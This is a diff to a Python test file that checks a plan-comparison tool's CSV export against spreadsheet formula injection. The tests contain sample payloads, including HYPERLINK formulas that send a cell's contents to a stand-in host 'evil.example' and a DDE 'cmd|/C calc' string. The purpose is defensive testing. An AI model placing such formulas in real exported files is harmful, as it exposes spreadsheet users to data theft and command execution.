@@ -6,11 +6,12 @@ import csv
 import io
 import json
 
+import pytest
 from hypothesis import given, settings
 from hypothesis import strategies as st
 from markdown_it import MarkdownIt
 
-from plancompare.output.render import markdown_escape, render, render_text, to_csv, to_json, to_markdown
+from plancompare.output.render import clean_cell, csv_cell, markdown_escape, render, render_text, to_csv, to_json, to_markdown
 from plancompare.output.table import Column, Table
 from plancompare.plans.textnorm import strip_control
 from support import markdown_cells
@@ -161,12 +162,55 @@ def test_terminal_row_limit_shows_the_first_rows_and_counts_the_rest() -> None:
     assert len(list(csv.reader(io.StringIO(to_csv(table))))) == 8
 
 
-def test_csv_cells_never_start_a_formula() -> None:
-    triggers = ['=HYPERLINK("http://evil.example","Click")', "+1+1", "-2+3", "@SUM(A1)", "\t=1", "\r=1"]
-    table = Table(title="t", columns=(Column("text", "Text"), Column("n", "N", numeric=True)),
-                  rows=tuple((text, -5) for text in triggers) + (("plain text", 2.5),))
-    rows = list(csv.reader(io.StringIO(to_csv(table), newline="")))
-    for (text, number), original in zip(rows[1:], triggers):
-        assert text.startswith("'") and text[1:].lstrip("\t\r\n") == original.lstrip("\t\r")
-        assert number == "-5"
-    assert rows[-1] == ["plain text", "2.5"]
+# -- CSV formula injection --------------------------------------------------------------------------
+
+# OWASP's triggers, plus a line feed: clean_cell turns a carriage return into one, and a spreadsheet
+# skips a leading line break just as it skips a tab.
+FORMULA_TRIGGERS = ["=", "+", "-", "@", "\t", "\r", "\n"]
+
+
+def _csv_cells(table: Table) -> list[list[str]]:
+    return list(csv.reader(io.StringIO(to_csv(table), newline="")))
+
+
+@pytest.mark.parametrize("trigger", FORMULA_TRIGGERS, ids=repr)
+def test_csv_neutralises_a_cell_starting_with_each_formula_trigger(trigger: str) -> None:
+    payload = trigger + 'HYPERLINK("http://evil.example/?x="&A1,"Click")'
+    rows = _csv_cells(_table([payload]))
+    expected_text = clean_cell(payload)
+    assert rows[1][1] == "'" + expected_text
+    assert rows[1][1].startswith("'") and rows[1][1][1:] == expected_text
+
+
+def test_csv_hyperlink_formula_is_text_not_a_live_formula() -> None:
+    text = to_csv(_table(['=HYPERLINK("http://evil.example","Click")']))
+    assert text.splitlines()[1] == 'item.0,"\'=HYPERLINK(""http://evil.example"",""Click"")",0'
+
+
+def test_csv_numbers_stay_numbers_and_ordinary_text_is_untouched() -> None:
+    columns = (Column("text", "Text"), Column("score", "Score", numeric=True), Column("gap", "Gap", numeric=True))
+    table = Table(title="T", columns=columns, rows=(("a = b", -3, -0.25), ("-12", 4, 1.5), ("-1.5", 0, -2),
+                                                     ("x-ray @home", 1, 2), ("", 1, 1)))
+    assert to_csv(table) == "text,score,gap\na = b,-3,-0.25\n-12,4,1.5\n-1.5,0,-2\nx-ray @home,1,2\n,1,1\n"
+
+
+@pytest.mark.parametrize(("cell", "safe"), [
+    ("=1+1", "'=1+1"), ("+44 20 7946 0000", "'+44 20 7946 0000"), ("-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"),
+    ("@SUM(A1:A9)", "'@SUM(A1:A9)"), ("- a bullet", "'- a bullet"), ("-5.2 %", "'-5.2 %"), ("-7", "-7"), ("-0.25", "-0.25"),
+    (" =1", " =1"), ("a=1", "a=1"), (-7, -7), (3.5, 3.5), (None, None), ("'quoted", "'quoted"),
+])
+def test_csv_cell(cell, safe) -> None:
+    assert csv_cell(cell) == safe
+
+
+def test_csv_export_end_to_end_neutralises_a_formula_in_a_plan(runner, plan_copy) -> None:
+    from plancompare.cli.main import cli
+
+    plan_file = plan_copy / "southmoor.yaml"
+    formula = '=HYPERLINK("http://evil.example/steal","Click")'
+    plan_file.write_text(plan_file.read_text(encoding="utf-8").replace(
+        "We will plant 20,000 trees across the district.", json.dumps(formula)), encoding="utf-8")
+    result = runner.invoke(cli, ["--plans-dir", str(plan_copy), "show", "southmoor", "--format", "csv"])
+    assert result.exit_code == 0, result.stderr
+    row = next(r for r in csv.DictReader(io.StringIO(result.stdout)) if r["id"] == "southmoor.climate.commitment.1")
+    assert row["text"] == "'" + formula
